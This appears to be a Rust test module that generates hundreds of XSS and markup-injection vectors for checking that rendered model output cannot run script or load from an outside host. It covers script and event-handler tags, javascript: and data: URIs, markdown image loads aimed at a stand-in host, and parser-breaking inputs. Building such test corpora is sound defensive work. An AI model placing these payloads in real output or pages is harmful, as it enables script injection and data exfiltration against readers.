//! Things that a model could be talked into writing, so that whoever reads them runs or loads what somebody else wants.
//!
//! What runs calls `taken()`; what loads asks [`ELSEWHERE`]. Each vector has a number of its own in what it calls and asks for, so that a
//! hit tells which one it was.

/// The host that must never be asked.
pub(super) const ELSEWHERE: &str = "https://elsewhere.example";

/// Elements that run something by themselves; `RUN` is the script, `URL` a place elsewhere.
const RUNNING: [&str; 34] = [
    "<script>RUN</script>",
    "<ScRiPt>RUN</sCrIpT >",
    "<script\n>RUN</script\n>",
    "<script src=URL></script>",
    "<script/x>RUN</script>",
    "<<script>RUN//<</script>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<img src=x onerror=RUN>",
    "<img src=x onerror='RUN'>",
    "<img src=\"x\" onerror=\"RUN\">",
    "<img/src=x/onerror=RUN>",
    "<IMG SRC=x ONERROR=RUN>",
    "<img src=x\tonerror=RUN>",
    "<img src=x onerror=&#116;aken()>",
    "<img src=x onerror",
    "<svg onload=RUN>",
    "<svg><script>RUN</script></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<svg><set onbegin=RUN attributeName=x>",
    "<math><mtext><script>RUN</script></mtext></math>",
    "<body onload=RUN>",
    "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    "<iframe src='javascript:parent.RUN'></iframe>",
    "<object data='data:text/html,<script>RUN</script>'></object>",
    "<embed src='data:text/html,<script>RUN</script>'>",
    "<details open ontoggle=RUN><summary>x</summary></details>",
    "<input autofocus onfocus=RUN>",
    "<select autofocus onfocus=RUN></select>",
    "<textarea autofocus onfocus=RUN></textarea>",
    "<video><source onerror=RUN></video>",
    "<audio src=x onerror=RUN></audio>",
    "<marquee onstart=RUN>x</marquee>",
    "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart=RUN>x</b>",
    "<template><script>RUN</script></template><noscript><p title='</noscript><img src=x onerror=RUN>'>",
];

/// Elements that load something by themselves.
const LOADING: [&str; 30] = [
    "<img src=URL>",
    "<img srcset='URL 1x'>",
    "<image src=URL>",
    "<picture><source srcset=URL><img></picture>",
    "<input type=image src=URL>",
    "<iframe src=URL></iframe>",
    "<object data=URL></object>",
    "<embed src=URL>",
    "<video src=URL autoplay></video>",
    "<video poster=URL></video>",
    "<audio src=URL autoplay></audio>",
    "<video><track default src=URL></video>",
    "<link rel=stylesheet href=URL>",
    "<link rel=preload as=image href=URL>",
    "<link rel=prefetch href=URL>",
    "<link rel=preconnect href=URL>",
    "<link rel=dns-prefetch href=URL>",
    "<link rel=icon href=URL>",
    "<style>@import 'URL';</style>",
    "<style>*{background:url(URL)}</style>",
    "<b style='background:url(URL)'>x</b>",
    "<b style=\"background:url(URL)\">x</b>",
    "<table background=URL><tr><td>x</td></tr></table>",
    "<body background=URL>",
    "<svg><image href=URL></image></svg>",
    "<svg><use href='URL#a'></use></svg>",
    "<svg><feImage href=URL></feImage></svg>",
    "<meta http-equiv=refresh content='0;url=URL'>",
    "<base href=URL><img src=x>",
    "<form action=URL><button autofocus>x</button></form>",
];

/// Markdown's own ways to load, which pages with images fall for.
const PICTURES: [&str; 16] = [
    "![x](URL)",
    "![x](<URL>)",
    "![x](URL \"title\")",
    "![](URL)",
    "![x][r]\n\n[r]: URL",
    "![r]\n\n[r]: <URL> 'title'",
    "[![x](URL)](URL)",
    "![![x](URL)](URL)",
    "**![x](URL)**",
    "- ![x](URL)",
    "> ![x](URL)",
    "# ![x](URL)",
    "| ![x](URL) |\n|---|\n| ![x](URL) |",
    "![x](//elsewhere.example/relative)",
    "![x](data:image/svg+xml,<svg onload=RUN>)",
    "[^1]\n\n[^1]: ![x](URL)",
];

/// Addresses that run or lead where no link of a model may lead.
const ADDRESSES: [&str; 28] = [
    "javascript:RUN",
    "JaVaScRiPt:RUN",
    "javascript&colon;RUN",
    "javascript&#58;RUN",
    "javascript&#x3A;RUN",
    "&#106;avascript:RUN",
    "%6aavascript:RUN",
    "\u{1}javascript:RUN",
    "java\tscript:RUN",
    "java&Tab;script:RUN",
    "java\u{ad}script:RUN",
    "javascript\u{200b}:RUN",
    "javascript\u{ff1a}RUN",
    "javascript://%0aRUN",
    "javascript:/*--></title></style></textarea></script><svg onload=RUN>*/RUN",
    "vbscript:RUN",
    "livescript:RUN",
    "data:text/html,<script>RUN</script>",
    "data:text/html;base64,PHNjcmlwdD50YWtlbigpPC9zY3JpcHQ+",
    "DATA:text/html,x",
    "blob:URL",
    "filesystem:URL",
    "file:///etc/passwd",
    "about:blank",
    "view-source:URL",
    "intent://x#Intent;end",
    "//elsewhere.example/",
    "/api/session",
];

/// Where an address can stand.
const LINKS: [&str; 5] = [
    "[x](ADDRESS)",
    "[x](<ADDRESS>)",
    "[x][r]\n\n[r]: ADDRESS",
    "<ADDRESS>",
    "<a href=\"ADDRESS\">x</a>",
];

/// Where a thing can stand that is no text to a careless reader.
const PLACES: [&str; 14] = [
    "THING",
    "# THING",
    "- THING\n  - THING",
    "1. THING",
    "> THING",
    "**THING**",
    "`x` THING `x`",
    "| THING |\n|:--|\n| THING |",
    "[THING](https://docs.example/)",
    "[x](https://docs.example/ \"THING\")",
    "```THING\nx\n```",
    "```html\nTHING\n```",
    "x THING  \nTHING\\\nTHING",
    "\\THING &lt;THING&gt;",
];

/// Things to stand there.
const THINGS: [&str; 21] = [
    "<script>RUN</script>",
    "<img src=x onerror=RUN>",
    "<img src=URL>",
    "\"><img src=x onerror=RUN>",
    "'><svg onload=RUN>",
    "\" onmouseover=\"RUN\" autofocus onfocus=\"RUN",
    "</code></pre><img src=x onerror=RUN>",
    "</td></tr></table><script>RUN</script>",
    "<!--><img src=x onerror=RUN>-->",
    "<![CDATA[<img src=x onerror=RUN>]]>",
    "<?php RUN ?><img src=URL>",
    "{{constructor.constructor('RUN')()}}${RUN}",
    "![x](URL)",
    "![x](URL \"><img src=x onerror=RUN>\")",
    "[x](javascript:RUN)",
    "[x]('onerror='RUN)",
    "&lt;img src=x onerror=RUN&gt;",
    "\u{ff1c}script\u{ff1e}RUN\u{ff1c}/script\u{ff1e}",
    "<a href=javascript:RUN><img src=URL></a>",
    "<svg/onload=RUN><iframe/src=URL>",
    "<img src=x onerror=RUN//",
];

/// What is built to break a reader rather than to run: each stands in an answer of its own, since some swallow all that follows.
pub(super) fn shapes() -> Vec<String> {
    let thing = "<img src=x onerror=taken(-1)>";
    let row = format!("|{}\n", " x |".repeat(60));
    let nested = |line: &dyn Fn(usize) -> String| (0..120).map(line).collect::<String>();
    vec![
        format!("```html\n{thing}"),
        format!("~~~\n{thing}\n```\n{thing}"),
        format!("````\n```\n{thing}\n```"),
        format!("**{thing} *{thing} ~~{thing} `{thing}"),
        format!("[{thing}]({thing}"),
        format!("![{}{thing}", "![".repeat(2_000)),
        format!("{}{thing}", "[".repeat(4_000)),
        format!("{}{thing}", "*a **b ".repeat(2_000)),
        format!("{}{thing}", "<".repeat(4_000)),
        format!("{}{thing}", "> ".repeat(600)),
        nested(&|depth| format!("{}- {thing}\n", "  ".repeat(depth))),
        nested(&|depth| format!("{}1. x\n", "   ".repeat(depth))),
        format!("{row}|{}\n{}", "---|".repeat(60), row.repeat(80)),
        format!("| a |\n|---|\n{}", "|".repeat(8_000)),
        "\u{202e}txet\u{202c} [\u{202e}moc.elpmaxe](https://docs.example/\u{202e}x) `\u{2066}x\u{2069}`".to_owned(),
        "\u{0}\u{1b}]8;;https://elsewhere.example\u{7}x\u{1b}]8;;\u{7} \u{feff}\u{2028}\u{2029}\u{fff9}".to_owned(),
        format!("{}\n{thing}", "a\u{300}".repeat(3_000)),
        format!("{}", "&#x0;&#55296;&#1114112;&notanentity;".repeat(50)),
    ]
}

/// All vectors that can stand beside each other, as templates.
fn templates() -> Vec<String> {
    let plain = RUNNING.iter().chain(&LOADING).chain(&PICTURES);
    let mut all: Vec<String> = plain.map(ToString::to_string).collect();
    let links = LINKS
        .iter()
        .flat_map(|link| ADDRESSES.map(|address| link.replace("ADDRESS", address)));
    all.extend(links);
    let placed = PLACES
        .iter()
        .flat_map(|place| THINGS.map(|thing| place.replace("THING", thing)));
    all.extend(placed);
    all
}

/// All vectors that can stand beside each other.
pub(super) fn vectors() -> Vec<String> {
    let numbered = templates()
        .into_iter()
        .enumerate()
        .map(|(number, template)| {
            template
                .replace("RUN", &format!("taken({number})"))
                .replace("URL", &format!("{ELSEWHERE}/{number}"))
        });
    numbered.collect()
}
